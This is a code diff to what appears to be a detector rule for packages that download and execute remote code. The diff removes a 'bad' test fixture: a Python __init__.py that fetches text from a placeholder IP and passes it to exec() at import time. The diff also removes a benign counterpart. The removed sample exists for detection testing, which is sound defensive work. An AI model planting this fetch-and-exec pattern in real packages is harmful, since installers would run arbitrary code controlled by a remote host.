@@ -10,18 +10,6 @@ export const downloadedCode: CodeSign = {
     strength: 'loud',
     benignRate: 0,
     docs: 'What such a package does is decided by whoever owns the address, on the day it is asked.',
-    bad: {
-      files: {
-        'acme/__init__.py':
-          "from urllib.request import urlopen as get\ntext = get('http://203.0.113.9/s').read()\nexec(text)\n",
-      },
-    },
-    good: {
-      files: {
-        'acme/__init__.py':
-          "from urllib.request import urlopen\ndef read(url):\n    return urlopen(url).read()\nexec('x = 1')\n",
-      },
-    },
   },
   trigger: codeWords,
   alsoTrigger: networkWords,
